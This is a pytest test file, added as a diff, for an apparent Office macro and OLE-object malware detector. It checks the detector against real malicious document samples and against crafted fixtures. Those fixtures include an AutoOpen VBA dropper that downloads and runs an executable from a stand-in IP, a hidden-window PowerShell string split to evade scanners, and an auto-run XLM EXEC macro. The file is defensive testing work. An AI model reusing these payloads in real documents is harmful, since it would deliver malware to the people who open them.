@@ -1,0 +1,247 @@
+"""Office macro analyzer (olevba + mraptor, XLM) and OLE embedded objects, on real and crafted documents."""
+
+from __future__ import annotations
+
+import logging
+
+import pytest
+
+from coinguard.analyzers.office import OfficeMacros, OleEmbedded, risky_embedded
+from coinguard.catalogue import catalogue
+from coinguard.findings import Finding, Item
+from coinguard.limits import Budget, Limits
+from coinguard.sniff import sniff
+
+from helpers import DATA, make_context, read_corpus_sample, zip_bytes
+
+MACROS = OfficeMacros()
+EMBEDDED = OleEmbedded()
+
+
+def run(handler: OfficeMacros | OleEmbedded, data: bytes, name: str = "doc") -> tuple[list[Finding], list[Item]]:
+    item = Item(path=name, name=name, data=data, type=sniff(data))
+    assert handler.applies_to(item), item.type
+    out = list(handler.analyze(item, make_context()))
+    return [f for f in out if isinstance(f, Finding)], [c for c in out if isinstance(c, Item)]
+
+
+def codes(findings: list[Finding]) -> set[str]:
+    return {f.code for f in findings}
+
+
+def detail(findings: list[Finding], code: str) -> str:
+    return next(f.detail for f in findings if f.code == code)
+
+
+def score(findings: list[Finding]) -> float:
+    cat = catalogue()
+    return sum(cat[f.code].score for f in findings)
+
+
+AUTO_EXEC = {"office.vba.macros", "office.vba.autoexec", "office.vba.suspicious", "office.vba.autoexec_exec",
+             "office.mraptor.suspicious"}
+
+
+# -- real documents ------------------------------------------------------------------------------
+@pytest.mark.corpus
+@pytest.mark.parametrize(
+    ("relpath", "expected"),
+    [
+        ("maldocs/inquest/008e80cd7d9a815774813d9837b4390d7f93c11d1e8ce7081424eb234d5c6fd3.doc.zip", AUTO_EXEC),
+        ("maldocs/inquest/02c51604604a7faae0b82aab08d9e3693525454be210b73e76294b4594762c78.docm.zip", AUTO_EXEC),
+        ("maldocs/inquest/0742b3b1b39cf9eb9e8a90aeb596797e8da05a504d4c9e12be992b1c742996e0.doc.zip",
+         AUTO_EXEC | {"office.vba.stomping", "office.vba.obfuscation"}),
+        ("maldocs/inquest/52f0aaff3654110e82586d21b07c8a3de23dc9efb3f4001daf412286282315c0.doc.zip",
+         AUTO_EXEC | {"office.vba.stomping"}),
+        ("maldocs/inquest/99eb1d90eb5f0d012f35fcc2a7dedd2229312794354843637ebb7f40b74d0809.doc.zip",
+         AUTO_EXEC | {"office.vba.obfuscation"}),
+        ("maldocs/inquest/ed6701b3be01b5529db4e8196fa6351aa859655ee4c01ea8f67cc8d781424811.xls.zip", AUTO_EXEC),
+        ("maldocs/inquest/remit.dotm.zip", AUTO_EXEC),
+        ("maldocs/macromilter/Dok1.doc.zip", AUTO_EXEC),
+        ("maldocs/oletools/sample_with_vba.ppt.zip", {"office.vba.macros", "office.vba.autoexec"}),
+        ("maldocs/inquest/98e4695eb06b12221f09956c4ee465ca5b50f20c0a5dc0550cad02d1d7131526.xls.zip",
+         {"office.xlm.macros", "office.xlm.autoexec", "office.xlm.autoexec_exec"}),
+        ("maldocs/inquest/05d8a7144a984b5f9530f0f9abe96546cfec0ad2c8cdc213bc733d7e14e750df.xlsm.zip",
+         {"office.xlm.macros", "office.xlm.autoexec", "office.xlm.autoexec_exec"}),
+        ("maldocs/oletools/excel4_sample_macro.xlsb.zip", {"office.xlm.macros", "office.xlm.autoexec"}),
+        ("maldocs/oletools/excel4_sample_macro_excel5_format.xls.zip", {"office.xlm.macros", "office.xlm.autoexec"}),
+    ],
+)
+def test_real_macro_documents(corpus_dir: object, relpath: str, expected: set[str]) -> None:
+    findings, children = run(MACROS, read_corpus_sample(relpath))
+    assert codes(findings) == expected
+    assert [c.name for c in children] == ["<vba>"]
+    assert children[0].type == "text" and children[0].role == "extracted"
+
+
+@pytest.mark.corpus
+def test_ta505_details_name_triggers_keywords_and_iocs(corpus_dir: object) -> None:
+    findings, children = run(MACROS, read_corpus_sample(
+        "maldocs/inquest/52f0aaff3654110e82586d21b07c8a3de23dc9efb3f4001daf412286282315c0.doc.zip"))
+    assert "AutoOpen" in detail(findings, "office.vba.autoexec")
+    suspicious = detail(findings, "office.vba.suspicious")
+    assert "ADODB.Stream" in suspicious and "Microsoft.XMLHTTP" in suspicious
+    assert detail(findings, "office.mraptor.suspicious").startswith("flags AWX")
+    assert b"Sub" in children[0].data
+
+
+@pytest.mark.corpus
+@pytest.mark.parametrize(
+    ("relpath", "expected"),
+    [
+        ("maldocs/oletools/sample_with_calc_embedded.doc.zip", {"office.embedded_object", "office.package_executable"}),
+        ("maldocs/oletools/sample_with_lnk_file.ppt.zip", {"office.embedded_object", "office.package_executable"}),
+        ("maldocs/oletools/sample_with_lnk_to_calc.doc.zip", {"office.embedded_object", "office.package_executable"}),
+        ("maldocs/strelka/test_pe_object.doc.zip", {"office.embedded_object", "office.package_executable"}),
+        ("maldocs/inquest/3b1395f620e428c5f68c6497a2338da0c4f749feb64e8f12e4c5b1288cc57a1c.doc.zip",
+         {"office.embedded_object", "office.flash"}),
+    ],
+)
+def test_real_embedded_objects(corpus_dir: object, relpath: str, expected: set[str]) -> None:
+    findings, _children = run(EMBEDDED, read_corpus_sample(relpath))
+    assert codes(findings) == expected
+
+
+@pytest.mark.corpus
+def test_embedded_calc_exe_is_yielded_with_its_name(corpus_dir: object) -> None:
+    findings, children = run(EMBEDDED, read_corpus_sample("maldocs/oletools/sample_with_calc_embedded.doc.zip"))
+    assert [c.name for c in children] == ["calc.exe"]
+    assert children[0].type == "pe" and children[0].role == "embedded"
+    assert "calc.exe" in detail(findings, "office.package_executable")
+
+
+@pytest.mark.corpus
+@pytest.mark.parametrize(
+    "relpath",
+    [
+        "benign/attachments/oletools/harmless-clean.doc",
+        "benign/attachments/oletools/harmless-clean.docx",
+        "benign/attachments/oletools/harmless-clean.xml",
+        "benign/attachments/oletools/embedded-simple-2007.docx",
+        "benign/attachments/strelka/test.doc",
+        "benign/attachments/strelka/test.docx",
+        "benign/attachments/MacroMilter/clean_wordfile.docx",
+    ],
+)
+def test_benign_documents_stay_quiet(corpus_dir: object, relpath: str) -> None:
+    data = read_corpus_sample(relpath)
+    item = Item(path="b", name="b", data=data, type=sniff(data))
+    findings = [f for h in (MACROS, EMBEDDED) if h.applies_to(item) for f in h.analyze(item, make_context())
+                if isinstance(f, Finding)]
+    assert score(findings) <= 4, findings
+    assert not any(f.code.startswith("office.vba") for f in findings)
+
+
+# -- PoC samples shipped in tests/data ------------------------------------------------------------
+def test_xlm_macro_sheet_in_xls() -> None:
+    findings, children = run(MACROS, (DATA / "oletools_excel4_sample_macro.xls").read_bytes())
+    assert codes(findings) == {"office.xlm.macros", "office.xlm.autoexec"}
+    assert b"ALERT" in children[0].data
+
+
+def test_xlm_macro_in_sylk() -> None:
+    findings, _ = run(MACROS, (DATA / "oletools_excel4_sample_macro.slk").read_bytes())
+    assert codes(findings) == {"office.xlm.macros", "office.xlm.autoexec"}
+    assert detail(findings, "office.xlm.autoexec") == "Auto_Open"
+
+
+def test_vba_source_text_with_autoopen_and_powershell() -> None:
+    findings, children = run(MACROS, (DATA / "strelka_test.vba").read_bytes(), "test.vba")
+    assert codes(findings) == AUTO_EXEC
+    assert "powershell" in detail(findings, "office.vba.suspicious").lower()
+    assert "test.bat" in detail(findings, "office.vba.suspicious")
+    assert children == []  # plain source text is not re-emitted as a child of itself
+
+
+def test_vba_in_legacy_encrypted_xls_is_still_visible() -> None:
+    # RC4 encryption covers the Workbook stream only; the VBA storage stays readable.
+    findings, _ = run(MACROS, (DATA / "oletools_autostart-encrypt-standardpassword.xls").read_bytes())
+    assert codes(findings) == {"office.vba.macros", "office.vba.autoexec"}
+
+
+# -- crafted cases ----------------------------------------------------------------------------------
+VBA_DROPPER = b"""Attribute VB_Name = "Module1"
+Sub AutoOpen()
+    Dim x
+    Set x = CreateObject("MSXML2.XMLHTTP")
+    x.Open "GET", "http://203.0.113.7/a.exe", False
+    Shell Environ("TEMP") & "\\a.exe", vbHide
+End Sub
+"""
+
+
+def test_crafted_autoopen_downloader() -> None:
+    findings, _ = run(MACROS, VBA_DROPPER, "module.bas")
+    assert codes(findings) == AUTO_EXEC
+    assert "http://203.0.113.7/a.exe" in detail(findings, "office.vba.suspicious")
+    assert "shell" in detail(findings, "office.vba.autoexec_exec")
+    assert score(findings) >= 15
+
+
+def test_crafted_harmless_module_is_only_informational() -> None:
+    src = b'Attribute VB_Name = "Report"\nSub FormatTable()\n    Range("A1").Font.Bold = True\nEnd Sub\n'
+    findings, _ = run(MACROS, src, "report.bas")
+    assert codes(findings) == {"office.vba.macros"}
+
+
+def test_crafted_split_string_obfuscation() -> None:
+    src = (b'Attribute VB_Name = "M"\nSub Document_Open()\n    a = "pow" & "ersh" & "ell -nop -w hidden"\n'
+           b"    CallByName Application, \"Run\", VbMethod, a\nEnd Sub\n")
+    findings, _ = run(MACROS, src, "m.bas")
+    assert "office.vba.obfuscation" in codes(findings)
+    assert "powershell" in detail(findings, "office.vba.obfuscation")
+    assert "office.vba.autoexec_exec" in codes(findings)
+
+
+def test_crafted_xlsm_macrosheet_with_auto_open_exec() -> None:
+    workbook = (b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                b'<definedNames><definedName name="_xlnm.Auto_Open_x" hidden="1">Macro1!$A$1</definedName>'
+                b"</definedNames></workbook>")
+    sheet = (b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
+             b'<sheetData><row><c r="A1"><f>EXEC("cmd /c calc.exe")</f></c></row></sheetData></xm:macrosheet>')
+    data = zip_bytes({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": workbook,
+                      "xl/macrosheets/sheet1.xml": sheet})
+    findings, children = run(MACROS, data, "book.xlsm")
+    assert codes(findings) == {"office.xlm.macros", "office.xlm.autoexec", "office.xlm.autoexec_exec"}
+    assert "EXEC" in detail(findings, "office.xlm.autoexec_exec")
+    assert b'EXEC("cmd /c calc.exe")' in children[0].data
+
+
+def test_truncated_ole_is_a_parse_error_not_an_exception() -> None:
+    data = (DATA / "oletools_excel4_sample_macro.xls").read_bytes()[:2000]
+    findings, children = run(MACROS, data, "broken.xls")
+    assert codes(findings) == {"office.parse_error"}
+    assert children == []
+    findings, _ = run(EMBEDDED, data, "broken.xls")
+    assert codes(findings) == {"oleobj.parse_error"}
+
+
+def test_oversized_document_is_skipped() -> None:
+    data = (DATA / "oletools_excel4_sample_macro.xls").read_bytes()
+    item = Item(path="x", name="x", data=data, type=sniff(data))
+    ctx = make_context()
+    ctx.budget = Budget(Limits(max_file_bytes=1000))
+    assert {f.code for f in MACROS.analyze(item, ctx) if isinstance(f, Finding)} == {"office.skipped"}
+
+
+def test_oletools_output_never_leaks(capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level(logging.DEBUG)
+    run(MACROS, (DATA / "oletools_excel4_sample_macro.xls").read_bytes()[:3000], "broken.xls")
+    run(MACROS, VBA_DROPPER, "module.bas")
+    captured = capsys.readouterr()
+    assert captured.out == "" and captured.err == ""
+    assert not [r for r in caplog.records if not r.name.startswith("coinguard")]
+
+
+@pytest.mark.parametrize(
+    ("names", "data", "risky"),
+    [
+        (("invoice.pdf.exe",), None, True),
+        (("notes.txt", "C:\\Users\\a\\notes.txt"), b"just text", False),
+        (("notes.txt",), b"MZ" + b"\x00" * 200, True),
+        (("run.LNK",), None, True),
+        (("report.docx",), None, False),
+    ],
+)
+def test_risky_embedded(names: tuple[str, ...], data: bytes | None, risky: bool) -> None:
+    assert bool(risky_embedded(names, data)) is risky
